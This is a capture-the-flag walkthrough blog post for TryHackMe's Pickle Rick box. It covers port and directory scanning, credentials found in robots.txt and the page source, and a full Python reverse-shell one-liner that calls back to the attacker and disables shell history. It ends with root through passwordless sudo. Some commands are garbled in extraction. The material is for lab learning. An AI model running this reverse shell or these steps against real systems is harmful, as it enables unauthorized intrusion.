Pickle Rick -CTF Walkthrough

Hello Everyone! Welcome to the new blog in this blog we are going to cover step by step challenge of a box named Pickle Rick on tryhackme.

Before starting make sure that you are connected to the tryhackme VPN and machine is deployed successfully.

After deploying the machine wait for 2–3 minutes and then ping the machine to confirm that it is working properly.

Now start the nmap scan to find out the ports open and services running on the machine.nmap scan

Command : nmap -s -s -s -A -oA pickle_nmap

There are 2 open ports. Port 80 and 22.

Let us scan for the directories using go buster.

Command : gobuster dir -u -w /usr/share/wordlists/dirb/common.txt -t 100 -o pickle_dirNow will use the different wordlist for directory scanning.

command: gobuster dir -u -w /usr/share/SecLists/Discovery/web-content/directory-list-2.3-big.txt -t 100 -o piclr_dir2

After hitting the below url ,we get to Hep morty website.


On usual checking robots.txt, we found a password.

Further enumerating and inspecting the web page source code reveled the user name.

Username: R1ckRul3s

From our earlier directory scan we have login.php. Where get the login page.Now we will use the obtained credentials.

We successfully able to login in portal and now we have a command panel. While executing the list command in the command panel we found that it has file called ‘Sup3rS3cretPickl3Ingred.txt’ and ‘clue .txt’. Let’s check the content of the file. While checking the content we found that the so many linux command are not allowed in this command panel.

But making slight modifications to cat command worked.

Let’s check the content of the ‘clue.txt’ and it saying that other flags are also in the file system.

Let’s first check the current working directory and our working directory is /var/www/html.

Now we will use the reverse shell python script to gain revershell. Befor this we will setup a listener in our local kali.

command : nc -lnvp 1234

python -c “import os,pty,socket;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((‘LHOST’,LPORT));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);os.putenv(‘HISTFILE’,’/dev/null’);pty.spawn([‘/bin/bash’,’-i’]);s.close();exit();”

As we can see we obtained reverse shell.Now we want to escalate our privileges. On enumeration we found that the user www-data can execute all the commands with sudo permissions without passpowd

Command : sudo bash

And we got the root shell.

On searching we found the second ingredient also.

We successfully completed the challenge. Hope youenjoyed it.

Thank you.



Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, Google Play',and if clicked it will leadyou to the Google Play store